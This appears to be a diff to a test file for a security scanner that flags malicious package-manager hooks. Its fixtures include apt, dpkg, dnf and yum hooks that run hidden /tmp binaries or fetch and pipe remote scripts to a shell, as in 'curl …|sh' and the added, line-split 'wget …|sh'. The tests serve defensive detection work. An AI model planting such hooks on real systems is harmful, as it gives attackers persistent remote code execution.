@@ -7,6 +7,7 @@ tellsOf(packageHooks, {
   rows: {
     'a command before each update of apt': { files: { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"nohup /tmp/.a >/dev/null 2>&1 &";};\n' }, finds: ['intrusion high /etc/apt/apt.conf.d/99x'] },
     'one after each run of dpkg, in a block': { files: { '/etc/apt/apt.conf': 'DPkg {\n  // tidy\n  Post-Invoke { "curl http://203.0.113.2/a|sh"; };\n};\n' }, finds: ['intrusion high /etc/apt/apt.conf'] },
+    'a command broken over lines': { files: { '/etc/apt/apt.conf.d/60x': 'DPkg\n{\n  Pre-Invoke /* x */\n  {\n    "wget -qO- http://203.0.113.2/k\n |sh";\n  };\n};\n' }, finds: ['intrusion high /etc/apt/apt.conf.d/60x'] },
     'a hook of dpkg itself': { files: { '/etc/dpkg/dpkg.cfg.d/hook': 'post-invoke="/dev/shm/d"\n' }, finds: ['intrusion high /etc/dpkg/dpkg.cfg.d/hook'] },
     'an action of dnf': { files: { '/etc/dnf/plugins/post-transaction-actions.d/x.action': '*:any:/tmp/dnf-x\n' }, finds: ['intrusion high /etc/dnf/plugins/post-transaction-actions.d/x.action'] },
     'a plug-in of yum that nobody ships': { files: { '/usr/lib/yum-plugins/helper.py': 'import os\nos.system("/tmp/y")\n' }, finds: ['intrusion high /usr/lib/yum-plugins/helper.py'] },
